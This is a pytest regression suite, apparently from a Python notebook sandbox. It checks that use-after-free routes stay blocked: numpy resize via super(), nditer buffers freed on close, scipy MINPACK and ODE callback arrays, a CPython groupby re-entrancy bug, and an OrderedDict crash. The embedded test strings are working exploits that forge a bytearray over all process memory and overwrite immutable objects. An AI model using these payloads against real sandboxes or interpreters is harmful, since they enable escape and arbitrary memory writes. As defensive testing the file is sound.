"""Sink: memory freed under an array the cell holds.

An array is a pointer to memory somebody else may free: numpy frees a buffered iterator's buffers at close(),
ndarray.resize(refcheck=False) frees the old block under every view of it, and C code that hands a callback an
array over its own work memory frees that memory when it returns. The cell then writes through its stale
array into whatever Python allocates there next (a list's item array, a bytes object's header), which gives a
bytearray over all memory: any address read and written. Every attack here is review 9's (docs/reviews.md);
docs/security.md's inventory has the row ("memory freed under a view").
"""
from __future__ import annotations

import json

import pytest

from childcell import run_reporting


# --- the array's own block: resize through super() (review 9, N9-6) ---------------------------------------------
# The gate refused a.resize from the instance, the class, a cell subclass, methodcaller and partial, but the
# super() path decided before that rule ran (Gates._decide_super): now one rule for both (_refuse_array_resize).

RESIZE = '''
import numpy as np
bb = np.lib.array_utils.byte_bounds
SETUP
stale = x.view(np.ndarray).reshape(-1)      # a view of the 8000-byte block
base = bb(stale)[0]
SHRINK                                      # realloc to 8 bytes: the rest of the block is freed under the view
big, k = [], None
for i in range(400):
    b = bytes((8000, 4000, 2000, 1000, 600)[i % 5])
    big.append(b)
    if base <= id(b) and id(b) + 64 <= base + 8000:
        k = (id(b) - base) // 8
        break
stale[k:k + 7] = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64)
ba = big[-1]
class Obj:
    pass
o = Obj()
typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
victim = b'AAAAAAAA-immutable'
ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
written = victim == b'PWNED!!!-immutable'
'''

RESIZES = {
    "super() in a cell subclass": ("class A(np.ndarray):\n    def shrink(self):\n"
                                   "        super().resize(1, refcheck=False)\nx = A((1000,), dtype=np.int64)",
                                   "x.shrink()"),
    "super(np.matrix, m)": ("x = np.matrix(np.zeros((1, 1000), dtype=np.int64))",
                            "super(np.matrix, x).resize((1, 1), refcheck=False)"),
}


@pytest.mark.parametrize("route", sorted(RESIZES))
def test_resize_through_super_is_refused(route):
    setup, shrink = RESIZES[route]
    result = run_reporting(RESIZE.replace("SETUP", setup).replace("SHRINK", shrink), ns=("typeptr", "written"),
                           timeout=120)
    assert "crashed" not in result, result
    assert result["ename"] == "AttributeDenied" and not result["typeptr"] and not result["written"], json.dumps(result)


# --- an iterator's buffers: np.nditer(flags=['buffered']) (review 9, N9-5) -----------------------------------------

NDITER = '''
import numpy as np
bb = np.lib.array_utils.byte_bounds
a = np.arange(4000, dtype=np.int32)
kept = []
it = np.nditer([a], flags=['buffered', 'external_loop'], op_flags=[['readwrite']], op_dtypes=[np.float64],
               casting='unsafe', buffersize=1000)
CLOSE
stale = kept[-1].view(np.int64)      # a view of the iterator's cast buffer, which close() freed
big = []
for i in range(200):                 # the next block of that size is a bytes object laid on the freed buffer
    big.append(bytes(8000))
    if id(big[-1]) == bb(stale)[0]:
        break
# its header rewritten: a bytearray over the whole address space
stale[:7] = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64)
ba = big[-1]
class Obj:
    pass
o = Obj()
typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
victim = b'AAAAAAAA-immutable'
ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
written = victim == b'PWNED!!!-immutable'
'''

CLOSES = {
    "with block": "with it:\n    for x in it:\n        kept.append(x)",
    "close()": "for x in it:\n    kept.append(x)\nit.close()",
}


@pytest.mark.parametrize("close", sorted(CLOSES))
def test_nditer_buffers_do_not_outlive_close(close):
    result = run_reporting(NDITER.replace("CLOSE", CLOSES[close]), ns=("typeptr", "written"), timeout=120)
    assert "crashed" not in result, result
    assert result["ename"] == "CallDenied" and not result["typeptr"] and not result["written"], json.dumps(result)


def test_iterators_are_refused_and_their_replacements_work(run):
    """Since review 10 (N10-1: unbuffered values over an operand only the iterator held) nditer is refused
    altogether; what analysis code uses it for works without it."""
    r = run("import numpy as np\na = np.arange(6.0).reshape(2, 3)\nnp.nditer(a)\n")
    assert r.error_name == "CallDenied" and r.denied(line=3), r
    r = run("import numpy as np\na = np.arange(6.0).reshape(2, 3)\ntot = sum(float(a[i]) for i in np.ndindex(a.shape))\n"
            "for i, v in np.ndenumerate(a):\n    a[i] = 2 * v\nprint(tot, a.sum())\n")
    assert r.ok and r.stdout == "15.0 30.0\n", r


# --- C work memory handed to a callback: MINPACK (review 9, N9-3) --------------------------------------------------

UAF = '''
import numpy as np
from scipy import optimize
class Marker:
    pass
marker = Marker()
lists, slot, kept = [], None, []
def f(x):
    kept.append(x)          # x is an array over MINPACK's work buffer (no owner, no base)
    return x - 1.0
for attempt in range(20):
    optimize.SOLVER(f, np.zeros(50))
    # the buffer is freed now; the arrays still point into it
    stale = [k.view(np.int64) for k in kept if not k.flags.owndata and k.base is None]
    for i in range(600):
        L = [marker] * (1000, 500, 2000, 4000, 100, 300, 60)[i % 7]   # a list's item array lands in the freed block
        lists.append(L)
        for k in stale:
            hit = np.nonzero(k == id(marker))[0]
            if len(hit):
                slot = (L, k, int(hit[0]))
                break
        if slot:
            break
    if slot:
        break
L, k, j = slot
# a fake bytearray over the whole address space, its header the data of a bytes object
fake = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64).tobytes()
k[j] = id(fake) + 32
ba = [L[n] for n in range(len(L)) if L[n] is not marker][0]
class Obj:
    pass
o = Obj()
typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
victim = b'AAAAAAAA-immutable'
ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
written = victim == b'PWNED!!!-immutable'
'''


@pytest.mark.parametrize("solver", ["fsolve", "leastsq"])
def test_solver_callback_arrays_do_not_outlive_their_memory(solver):
    """N9-3 (FULL ESCAPE when found): the callback's x lay over MINPACK's work buffer, freed when the solver
    returned; every entry point that does this gives the cell's callables copies (guards._BORROWING_ENTRY_POINTS)."""
    result = run_reporting(UAF.replace("SOLVER", solver), ns=("typeptr", "written"), timeout=120)
    assert "crashed" not in result, result
    assert not result["typeptr"] and not result["written"], json.dumps(result)


# Every callback-taking API of numpy and scipy was called with a recording callback (review 9's inventory): these
# are the ones whose C code handed the callback an array over memory no Python object owns. Each must now give
# the cell's function arrays that own their memory (or view an array that does), and still solve the problem.
BORROWING_APIS = {
    "fsolve": "optimize.fsolve(f, np.zeros(3))",
    "root hybr": "optimize.root(f, np.zeros(3), method='hybr')",
    "root hybr jac": "optimize.root(f, np.zeros(3), method='hybr', jac=lambda x: keep(x) * 0 + np.eye(3))",
    "leastsq": "optimize.leastsq(f, np.zeros(3))",
    "root lm": "optimize.root(f, np.zeros(3), method='lm')",
    "odeint": "integrate.odeint(lambda y, t: keep(y) * -1.0, np.ones(3), [0, 0.5, 1.0])",
    "ode vode": "r = integrate.ode(lambda t, y: keep(y) * -1.0).set_integrator('vode')\nr.set_initial_value(np.ones(3)); r.integrate(1.0)",
    "ode zvode": "r = integrate.ode(lambda t, y: keep(y) * -1.0).set_integrator('zvode')\nr.set_initial_value(np.ones(3) + 0j); r.integrate(1.0)",
    "ode lsoda": "r = integrate.ode(lambda t, y: keep(y) * -1.0).set_integrator('lsoda')\nr.set_initial_value(np.ones(3)); r.integrate(1.0)",
    "ode dopri5 solout": "r = integrate.ode(lambda t, y: keep(y) * -1.0).set_integrator('dopri5')\n"
                         "r.set_solout(lambda t, y: [keep(y), None][1])\nr.set_initial_value(np.ones(3)); r.integrate(1.0)",
    "ode dop853": "r = integrate.ode(lambda t, y: keep(y) * -1.0).set_integrator('dop853')\nr.set_initial_value(np.ones(3)); r.integrate(1.0)",
    "solve_ivp LSODA": "integrate.solve_ivp(lambda t, y: keep(y) * -1.0, (0, 1), np.ones(3), method='LSODA')",
    "svds propack": "from scipy.sparse.linalg import LinearOperator, svds\nM = np.arange(1.0, 31.0).reshape(6, 5)\n"
                    "svds(LinearOperator((6, 5), matvec=lambda x: M @ keep(x), rmatvec=lambda x: M.T @ keep(x)), k=2,"
                    " solver='propack', random_state=0)",
}
KEEPER = """import numpy as np
from scipy import optimize, integrate
kept = []
def keep(a):
    kept.append(a)
    return a
def f(x):
    return keep(x) - 1.0
def borrowed(a):
    while isinstance(a, np.ndarray):
        if a.flags.owndata:
            return False
        a = a.base
    return True
"""


@pytest.mark.parametrize("api", sorted(BORROWING_APIS))
def test_callbacks_get_arrays_that_own_their_memory(sandbox, api):
    r = sandbox.run(KEEPER + BORROWING_APIS[api] + "\nbad = [k for k in kept if borrowed(k)]\n")
    assert r.ok, r
    assert sandbox.ns["kept"] and sandbox.ns["bad"] == [], r


# --- N10-1: an unbuffered nditer's values outlive close() ----------------------------------------------------------
# Review 10 (level none, 2026-11-26, against 0abcd2d), finding N10-1: fixed at e282dcb: its strict xfail is now a
# plain test (same attack, same assertions).
# N9-5 refused flags=['buffered'] on the premise "unbuffered, every value is a view of an operand, which the view
# keeps alive". It is not: every value numpy's iterator hands out (for x in it, it.value, it[i]) has the ITERATOR as
# its base, not the operand. close() (or the end of a `with it:` block) deallocates the C iterator, which drops its
# references to the operands; an operand nobody else holds (a temporary, an 'allocate'd output, a cast copy) is freed
# while the values still view it. A bytes object laid on the freed block becomes a bytearray over all memory.

NDITER_UNBUFFERED = '''
import numpy as np
bb = np.lib.array_utils.byte_bounds
SETUP
stale = kept[-1].view(np.int64)
lo = bb(stale)[0]
big, k = [], None
for i in range(600):
    big.append(bytes(32000 - 40 + (i % 3) * 8))
    if lo <= id(big[-1]) and id(big[-1]) + 64 <= lo + 32000:
        k = (id(big[-1]) - lo) // 8
        break
stale[k:k + 7] = np.array([2**40, id(bytearray), 2**62, 2**62, 0, 0, 0], dtype=np.int64)
ba = big[-1]
class Obj:
    pass
o = Obj()
typeptr = int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
victim = b'AAAAAAAA-immutable'
ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
written = victim == b'PWNED!!!-immutable'
'''

NDITER_ROUTES = {
    "close() of a temporary operand": (
        "it = np.nditer(np.zeros(4000, dtype=np.int64), flags=['external_loop'], op_flags=[['readwrite']])\n"
        "kept = [x for x in it]\nit.close()"),
    "with block": (
        "kept = []\nwith np.nditer(np.zeros(4000, dtype=np.int64), flags=['external_loop'],"
        " op_flags=[['readwrite']]) as it:\n    for x in it:\n        kept.append(x)"),
    "it.value of an allocated output": (
        "it = np.nditer([np.zeros(4000, dtype=np.int64), None], flags=['external_loop'],"
        " op_flags=[['readonly'], ['writeonly', 'allocate']])\nkept = [it.value[1]]\nit.close()"),
}


@pytest.mark.parametrize("route", sorted(NDITER_ROUTES))
def test_unbuffered_nditer_values_do_not_outlive_close(route):
    result = run_reporting(NDITER_UNBUFFERED.replace("SETUP", NDITER_ROUTES[route]), ns=("typeptr", "written"),
                           timeout=120)
    assert "crashed" not in result, result
    assert not result["typeptr"] and not result["written"], json.dumps(result)
    assert result["ename"] in ("CallDenied", "AttributeDenied"), json.dumps(result)


# --- N10-8: CPython 3.11.7's itertools.groupby re-entrancy use-after-free (gh-143543) -------------------------------
# Review 10 (level none, 2026-11-26, against 0abcd2d), finding N10-8: the groupby use-after-free is fixed at e282dcb:
# its strict xfail is now a plain test (same attack, same assertions);
# the OrderedDict.move_to_end crash below stays a strict xfail (CPython gh-142637, open upstream).
# groupby_next compares tgtkey and currkey through borrowed pointers; a key's __eq__ that calls next(G) moves tgtkey on
# and leaves the outer frame the last owner of the first key; returning NotImplemented makes Python try the reflected
# compare, which hands the freed key to the next key's __eq__ as `other` (fixed upstream in 2026; 3.11 is
# security-only and this build is 3.11.7). Inside that __eq__ the cell lays list item arrays over the freed 96-byte
# block (managed-dict pre-header + GC header + a bytearray subclass): `other` becomes a bytearray whose ob_start is a
# low object address and ob_size a high one, i.e. a bytearray over the process's memory. No library is involved: the
# rewriter's checkpoints and gates run, and the cell holds the freed object through an ordinary argument.

GROUPBY = '''
from itertools import groupby
phase = [0]
keep = [None] * 400
found = []
class Obj:
    pass
o = Obj()
victim = b'AAAAAAAA-immutable'
D = {}
cands = [None, True, False, 0, 1, Obj, o, D, keep, victim, found, phase, groupby, bytearray, len]
LO = min(cands, key=id)
HI = max(cands, key=id)
class Key(bytearray):
    def __eq__(self, other):
        p = phase[0]
        phase[0] = p + 1
        if p == 0:
            next(G)                 # re-enters groupby; the outer key's last owner is this frame
            return NotImplemented   # the reflected compare gets the freed key as `other`
        if p == 2:
            for j in range(300):    # 12-slot item arrays: the freed key's 96-byte block; a fake bytearray header
                keep[j] = [None, D, None, None, D, Key, HI, None, None, LO, None, None]
            found.append(other)
        return False
def keys():
    while True:
        yield Key()
G = groupby([None, 1], keys().send)
next(G)
next(G)
fake = found[0]
size_ok = len(fake) == id(HI)
base = id(LO)
def peek(addr):
    return int.from_bytes(bytes([fake[addr - base + k] for k in range(8)]), 'little')
typeptr = peek(id(o) + 8) == id(Obj)
for k, c in enumerate(b'PWNED!!!'):
    fake[id(victim) + 32 - base + k] = c
written = victim == b'PWNED!!!-immutable'
'''


def test_groupby_reentrant_eq_reaches_no_memory():
    result = run_reporting(GROUPBY, ns=("size_ok", "typeptr", "written"), timeout=120)
    assert "crashed" not in result, result
    assert not result["typeptr"] and not result["written"], json.dumps(result)


# The same class, no weaponisation needed for a crash: OrderedDict.move_to_end/pop/__delitem__ look the key up while a
# re-entrant __eq__ clears the dict; _odict_clear_node then walks the freed node table (CPython gh-142637, open
# upstream): the kernel process dies with SIGSEGV.

ODICT = '''
from collections import OrderedDict
class Original:
    def __hash__(self):
        return 1
class Trigger:
    def __hash__(self):
        return 1
    def __eq__(self, other):
        od.clear()
        return True
for i in range(200):
    od = OrderedDict()
    for j in range(8):
        od[Original()] = None
    od.move_to_end(Trigger())
    ok = True
'''


@pytest.mark.xfail(strict=True, reason="FINDING N10-8 (open): OrderedDict.move_to_end with a re-entrant __eq__ "
                                       "that clears the dict kills the kernel: CPython gh-142637, open upstream")
def test_ordereddict_reentrant_eq_does_not_crash():
    result = run_reporting(ODICT, ns=("ok",), timeout=120)
    assert "crashed" not in result, result


# --- Review 10 (level none, 2026-11-26, against 0abcd2d): attempts that held --------------------------------------
# Buffer exporters under numpy views and the nditer's position setters. Three of them are now refused earlier, by
# rules added when review 10's findings were fixed (e282dcb): `__init__` of a library object is no longer read
# (AttributeDenied, before BytesIO's own BufferError) and np.nditer is refused (CallDenied, before numpy's own
# IndexError/ValueError); either refusal holds.

HELD_REVIEW10 = {
    # a buffer exporter under a numpy view cannot be resized: the view (or numpy's memoryview base) pins it
    "bytearray under frombuffer": ("import numpy as np\nb = bytearray(4096)\na = np.frombuffer(b, dtype=np.uint8)\n"
                                   "b.extend(bytes(100000))", ("BufferError",)),
    "array.array under frombuffer": ("import numpy as np, array\nar = array.array('q', [0] * 512)\n"
                                     "x = np.frombuffer(ar, dtype=np.int64)\nar.extend([1] * 100000)",
                                     ("BufferError",)),
    # BytesIO's getbuffer() memoryview reaches the cell, but re-initialising the BytesIO under it is refused
    # (now earlier: a library object's __init__ is not read, AttributeDenied)
    "BytesIO.__init__ under getbuffer()": ("import io\nb = io.BytesIO(bytes(100000))\nm = b.getbuffer()\n"
                                           "getattr(b, '__init__')(b'')", ("BufferError", "AttributeDenied")),
    # an nditer's position setters are bounds-checked by numpy (now earlier: np.nditer is refused, CallDenied)
    "nditer iterindex past the end": ("import numpy as np\nit = np.nditer(np.zeros(4000))\nit.iterindex = 10**6",
                                      ("IndexError", "CallDenied")),
    "nditer __init__ again": ("import numpy as np\nit = np.nditer(np.zeros(10))\n"
                              "getattr(it, '__init__')(np.zeros(20))", ("ValueError", "CallDenied")),
    # the a.base of a frombuffer array (a memoryview) is refused
    "frombuffer(...).base": ("import numpy as np\na = np.frombuffer(bytearray(64), dtype=np.uint8)\nm = a.base",
                             ("AttributeDenied",)),
}


@pytest.mark.parametrize("attempt", sorted(HELD_REVIEW10))
def test_review10_held_attempts_on_buffers_and_nditer(attempt):
    cell, expected = HELD_REVIEW10[attempt]
    result = run_reporting(cell, timeout=120)
    assert "crashed" not in result and result["ename"] in expected, json.dumps(result)
